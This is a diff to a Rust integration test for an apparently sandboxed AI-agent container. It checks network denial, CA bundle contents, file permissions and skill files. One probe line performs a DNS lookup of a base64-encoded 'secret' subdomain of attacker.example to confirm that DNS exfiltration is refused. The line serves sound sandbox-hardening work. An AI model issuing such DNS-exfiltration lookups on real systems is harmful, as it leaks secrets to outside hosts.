@@ -33,8 +33,12 @@ fn start_prompt_round_trip() {
                   curl -s -o /dev/null -w 'denied %{http_code}\\n' http://denied.example/; \
                   nslookup c2VjcmV0.attacker.example >/dev/null 2>&1 && echo dns LEAK || echo dns refused; \
                   echo uid $(id -u); \
-                  grep -c BEGIN /run/claude-bottle/ca-bundle.pem >/dev/null && echo ca ok; \
-                  stat -c 'prompt %a' /run/claude-bottle/prompt.md; \
+                  cd /run/claude-bottle; n=$(wc -c < ca.pem); \
+                  [ \"$(tail -c $n ca-bundle.pem | md5sum)\" = \"$(md5sum < ca.pem)\" ] && echo bundle ends with the CA; \
+                  [ \"$(tail -c $n /etc/ssl/certs/ca-certificates.crt | md5sum)\" = \"$(md5sum < ca.pem)\" ] && echo store ends with the CA; \
+                  grep -c BEGIN ca.pem; \
+                  for f in env prompt.md ca.pem ca-bundle.pem ~/.claude.json; do echo \"${f##*/} $(stat -c '%a %u' $f)\"; done; \
+                  cat prompt.md; grep -o '\"hasCompletedOnboarding\":true' ~/.claude.json; cd /workspace; \
                   cat ~/.claude/skills/review/SKILL.md; stat -c 'skill %u' ~/.claude/skills/review/SKILL.md; \
                   cat ~/.claude/skills/review/leak 2>/dev/null || echo no leak; \
                   exit 3";
@@ -51,7 +55,11 @@ fn start_prompt_round_trip() {
     );
     assert_eq!(
         stdout,
-        "health 200\ndenied 403\ndns refused\nuid 1000\nca ok\nprompt 600\n# Review skill\nskill 1000\nno leak\n",
+        "health 200\ndenied 403\ndns refused\nuid 1000\n\
+         bundle ends with the CA\nstore ends with the CA\n1\n\
+         env 600 1000\nprompt.md 600 1000\nca.pem 644 1000\nca-bundle.pem 644 1000\n.claude.json 600 1000\n\
+         You probe.\n\"hasCompletedOnboarding\":true\n\
+         # Review skill\nskill 1000\nno leak\n",
         "{stderr}"
     );
     assert!(stderr.contains("the agent exited with code 3"), "{stderr}");
